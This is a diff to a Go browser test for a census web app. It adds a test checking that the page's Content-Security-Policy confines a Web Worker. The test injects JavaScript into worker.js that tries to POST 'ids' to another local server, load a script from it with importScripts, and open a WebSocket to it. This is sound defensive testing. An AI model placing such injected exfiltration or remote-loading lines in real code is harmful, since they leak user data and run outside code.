@@ -15,6 +15,7 @@ import (
 	"strconv"
 	"strings"
 	"sync"
+	"sync/atomic"
 	"testing"
 	"time"
 
@@ -298,6 +299,33 @@ func TestCensusIsNotSent(t *testing.T) {
 	}
 	if file != "census.wasm.gz" {
 		t.Errorf("the last request was for %q, want the program of the census", file)
+	}
+}
+
+// TestWorkerIsConfined holds that the Content-Security-Policy of the page binds the Worker, although
+// the web server sends no header: a Worker that wants to send something elsewhere cannot.
+func TestWorkerIsConfined(t *testing.T) {
+	testenv.WithoutRace(t)
+	var sent atomic.Int64
+	other := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { sent.Add(1) }))
+	defer other.Close()
+	b := newTab(t)
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Cache-Control", "no-store")
+		if r.URL.Path == "/worker.js" {
+			whole := testenv.Must(os.ReadFile(filepath.Join(publishedAt, "worker.js")))(t)
+			w.Header().Set("Content-Type", "text/javascript")
+			fmt.Fprintf(w, `fetch('%[1]s', {mode: 'no-cors', method: 'POST', body: 'ids'}).catch(() => {}); try { importScripts('%[1]s') } catch {}; try { new WebSocket('%[1]s') } catch {}; %[2]s`, other.URL, whole)
+			return
+		}
+		http.FileServer(http.Dir(publishedAt)).ServeHTTP(w, r)
+	}))
+	defer server.Close()
+	b.url = server.URL + "/"
+	b.open()
+	b.take("file", filepath.Join(censusInputs(t), "list"))
+	if text := b.eval(`return $('.report h1')?.textContent`); text != "Census of 2 ids" || sent.Load() > 0 {
+		t.Errorf("%q; the Worker sent %d requests elsewhere", text, sent.Load())
 	}
 }
 
